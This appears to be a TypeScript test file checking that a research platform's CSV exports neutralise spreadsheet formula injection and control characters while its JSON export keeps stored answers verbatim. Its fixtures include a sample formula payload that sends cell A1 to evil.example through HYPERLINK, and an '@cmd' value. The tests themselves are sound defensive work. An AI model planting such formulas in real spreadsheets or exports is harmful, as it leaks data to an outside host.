// Security issue #11 (4): answers that look like spreadsheet formulas, or hold control characters
// (rows stored before input validation refused them), reach the exports. CSV cells must be neutralised;
// JSON must keep the exact stored value; the codebook must say so.
import { randomUUID } from 'node:crypto';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { parseCsv } from '../support/parse-csv';
import { createOwnedStudy } from './helpers/owned-study';
import { getDb } from '@/lib/db';
import type { Actor } from '@/lib/auth/roles';
import { exportResponses } from '@/lib/analysis/export-responses';
import { exportQuerySchema } from '@/lib/analysis/analysis-query-schema';

const hyperlink = '=HYPERLINK("http://evil.example/?"&A1,"click")';
/** Stored free-text answers, one participant each, and the cell a spreadsheet should see. */
const cases: [stored: string, csv: string][] = [
  [hyperlink, `'${hyperlink}`],
  ['\t=1+1', "'\t=1+1"],
  ['\r=1+1', "'\r=1+1"],
  ['+SUM(A1:A2)', "'+SUM(A1:A2)"],
  ['@cmd', "'@cmd"],
  ['nul\u0000byte', 'nul\uFFFDbyte'],
  ['-3.5', '-3.5'],
  ['just text, with a comma', 'just text, with a comma'],
];

let cleanup: () => Promise<void>;
let actor: Actor;
let studyId = '';

beforeAll(async () => {
  let versionId = '';
  ({ cleanup, actor, studyId, versionId } = await createOwnedStudy({
    slug: 'formula-safety',
    title: 'Formula safety',
    consent: { body: 'Fixture consent.' },
    blocks: [{ id: 'b', items: [{ id: 'note', type: 'free-text', prompt: 'Anything else?', required: false }] }],
  }));
  const start = Date.UTC(2026, 10, 1, 9, 0, 0);
  for (const [k, [stored]] of cases.entries()) {
    const at = new Date(start + k * 60_000);
    await getDb().participant.create({
      data: {
        studyId, studyVersionId: versionId, status: 'completed', seed: k + 1, startedAt: at, consentedAt: at, completedAt: at,
        responses: { create: [{ itemId: 'note', value: JSON.stringify(stored), position: 0, responseTimeMs: 1000 + k, idempotencyKey: randomUUID(), answeredAt: at }] },
      },
    });
  }
});
afterAll(async () => cleanup());

const exported = async (format: string) => new Response((await exportResponses({ actor, studyId, query: exportQuerySchema.parse({ format }) })).body).text();
const byStart = (rows: Record<string, string>[], column: string) => rows.map((r) => r[column] ?? '').sort();

describe('exports are safe to open in a spreadsheet', () => {
  it('long and wide CSV prefix formula-like text with a quote and never carry a raw NUL', async () => {
    const expected = cases.map(([, csv]) => csv).sort();
    const long = await exported('csv');
    expect(long).not.toContain('\u0000');
    expect(byStart(parseCsv(long), 'answer')).toEqual(expected);
    const wide = await exported('wide');
    expect(wide).not.toContain('\u0000');
    const wideRows = parseCsv(wide);
    expect(byStart(wideRows, 'note')).toEqual(expected);
    // Response times are written as numbers, unprefixed.
    expect(wideRows.map((r) => r.note__ms).sort()).toEqual(cases.map((_, k) => String(1000 + k)).sort());
    // No cell of either file, parsed back, starts with a formula character unless it is a plain number.
    for (const rows of [parseCsv(long), wideRows]) {
      for (const value of rows.flatMap((r) => Object.values(r))) expect(/^[=+@\t\r]|^-(?![\d.])/.test(value), value).toBe(false);
    }
  });

  it('JSON keeps every answer exactly as stored, and the codebook says how CSV differs', async () => {
    const rows = JSON.parse(await exported('json')) as { answer: string }[];
    expect(rows.map((r) => r.answer).sort()).toEqual(cases.map(([stored]) => stored).sort());
    const codebook = JSON.parse(await exported('codebook')) as { files: Record<string, { description: string }> };
    for (const file of ['csv', 'wide']) expect(codebook.files[file]?.description).toMatch(/= \+ - @ tab or CR .* prefixed with ' .*JSON export keeps every value exactly as stored/);
  });
});
